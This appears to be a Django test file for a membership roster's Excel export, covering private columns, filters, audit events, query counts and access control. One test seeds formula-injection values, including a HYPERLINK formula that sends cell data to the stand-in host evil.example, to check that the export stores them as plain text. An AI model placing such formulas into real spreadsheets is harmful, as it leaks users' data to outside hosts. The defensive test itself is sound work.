from __future__ import annotations

import io
from typing import Any

from django.core.files.uploadedfile import SimpleUploadedFile
from django.db import connection
from django.test.utils import CaptureQueriesContext
from django.urls import reverse
from openpyxl import load_workbook

from shangliang.accounts.models import Membership
from shangliang.core.models import AuditEvent
from shangliang.orgs.models import Group, Sector
from shangliang.roster import services
from shangliang.roster.selectors import RosterFilters
from shangliang.roster.tests.sheets import response_bytes
from shangliang.testing import World, make_member

PUBLIC = ["姓名", "党派", "界别", "专委会", "职务", "工作单位及职务", "小组", "状态"]
ALL = [
    "姓名",
    "性别",
    "民族",
    "出生年月",
    "党派",
    "界别",
    "专委会",
    "职务",
    "工作单位及职务",
    "手机号",
    "小组",
    "用户名",
    "状态",
]


def export(world: World, user: Any, org: Any, **params: Any) -> Any:
    response = world.client_for(user).get(reverse("roster:export", args=[org.pk]), params)
    assert response.status_code == 200, response.status_code
    assert response["Content-Type"].startswith("application/vnd.openxmlformats")
    assert "attachment" in response["Content-Disposition"]
    ws = load_workbook(io.BytesIO(response_bytes(response)))["委员名册"]
    rows = [[c.value for c in row] for row in ws.iter_rows()]
    return ws, rows[0], [dict(zip(rows[0], r, strict=True)) for r in rows[1:]]


def county_a_roster(world: World) -> list[Membership]:
    term = world.terms[world.county_a.pk]
    economy = Sector.objects.get(org=world.county_a, name="经济界")
    group = Group.objects.get(org=world.county_a)
    made = [make_member(world.county_a, term, name=f"甲县委员{n}") for n in range(2, 6)]
    for m in made[:2]:
        m.sector = economy
        m.save()
        m.groups.add(group)
    return made


def test_members_export_without_private_columns(world):
    made = county_a_roster(world)
    _ws, headers, rows = export(world, world.county_a_member, world.county_a)
    assert headers == PUBLIC
    assert len(rows) == 5
    assert not any(str(m.user.phone) in str(rows) for m in made)


def test_staff_export_has_every_column(world):
    made = county_a_roster(world)
    _ws, headers, rows = export(world, world.county_a_office, world.county_a)
    assert headers == ALL
    by_phone = {r["手机号"]: r for r in rows}
    first = by_phone[made[0].user.phone]
    assert first["姓名"] == "甲县委员2" and first["界别"] == "经济界"
    assert first["小组"] == "第一学习组" and first["职务"] == "委员" and first["状态"] == "在职"


def test_the_export_follows_the_filters(world):
    county_a_roster(world)
    economy = Sector.objects.get(org=world.county_a, name="经济界")
    _ws, _h, rows = export(world, world.county_a_office, world.county_a, sector=economy.pk)
    assert sorted(r["姓名"] for r in rows) == ["甲县委员2", "甲县委员3"]
    _ws, _h, rows = export(world, world.county_a_office, world.county_a, q="委员4")
    assert [r["姓名"] for r in rows] == ["甲县委员4"]
    Membership.objects.filter(user__name="甲县委员5").update(status=Membership.Status.SUSPENDED)
    _ws, _h, rows = export(world, world.county_a_office, world.county_a, status="suspended")
    assert [(r["姓名"], r["状态"]) for r in rows] == [("甲县委员5", "暂停履职")]


def test_the_export_is_audited(world):
    county_a_roster(world)
    export(world, world.county_a_member, world.county_a, q="甲县")
    event = AuditEvent.objects.get(action="roster.exported")
    assert event.actor == world.county_a_member and event.org == world.county_a
    assert event.data == {"rows": 5, "private": False, "filters": {"q": "甲县"}}


def test_text_that_looks_like_a_formula_stays_text(world):
    user = world.county_a_member
    user.workplace = '=HYPERLINK("http://evil.example/?"&A1,"点我")'
    user.party = "+1+1"
    user.name = "@SUM(A1:A9)"
    user.ethnicity = "-2+3"
    user.save()
    ws, headers, rows = export(world, world.county_a_office, world.county_a)
    row = next(r for r in ws.iter_rows(min_row=2) if r[0].value == "@SUM(A1:A9)")
    for cell in row:
        if isinstance(cell.value, str) and cell.value[:1] in "=+-@":
            assert cell.data_type == "s" and cell.quotePrefix, cell.coordinate
    values = dict(zip(headers, (c.value for c in row), strict=True))
    assert values["工作单位及职务"] == user.workplace  # shown exactly, never evaluated
    assert values["党派"] == "+1+1" and values["民族"] == "-2+3"


def test_the_export_costs_the_same_queries_for_more_members(world):
    term = world.terms[world.county_a.pk]
    group = Group.objects.get(org=world.county_a)

    def queries() -> int:
        with CaptureQueriesContext(connection) as captured:
            wb, _count = services.roster_export(
                actor=world.county_a_office, org=world.county_a, filters=RosterFilters()
            )
        wb.save(io.BytesIO())
        return len(captured)

    for _ in range(3):
        make_member(world.county_a, term).groups.add(group)
    queries()  # the permission caches on the user warm up
    few = queries()
    for _ in range(40):
        make_member(world.county_a, term).groups.add(group)
    assert queries() == few


def test_outsiders_cannot_export(world):
    url = reverse("roster:export", args=[world.county_a.pk])
    for user in (world.county_b_member, world.public, world.unit_user):
        assert world.client_for(user).get(url).status_code == 404
    assert not AuditEvent.objects.filter(action="roster.exported").exists()


def test_an_export_imports_again_elsewhere(world, django_capture_on_commit_callbacks):
    """The export has the template's columns: a county's roster loads into the city's term
    (the same people, so their accounts are matched, not duplicated)."""
    county_a_roster(world)
    response = world.client_for(world.general_office).get(
        reverse("roster:export", args=[world.county_a.pk])
    )
    file = SimpleUploadedFile("export.xlsx", response_bytes(response))
    with django_capture_on_commit_callbacks(execute=True):
        job = services.roster_import_start(
            actor=world.general_office, org=world.city, term=world.terms[world.city.pk], upload=file
        )
    job.refresh_from_db()
    assert job.status == "done", job.errors
    assert (job.created_users, job.matched_users, job.created_memberships) == (0, 5, 5)


def test_an_english_export_can_be_imported_again(world, client):
    import io

    from openpyxl import load_workbook

    client.force_login(world.general_office)
    client.post("/i18n/setlang/", {"language": "en", "next": "/"})
    r = client.get(f"/roster/orgs/{world.county_a.pk}/export/")
    assert r.status_code == 200
    ws = load_workbook(io.BytesIO(b"".join(r.streaming_content))).active
    rows = list(ws.iter_rows(values_only=True))
    assert "职务" in rows[0]
    position = rows[0].index("职务")
    assert rows[1][position] == "委员"  # not "Member": the importer reads Chinese codes
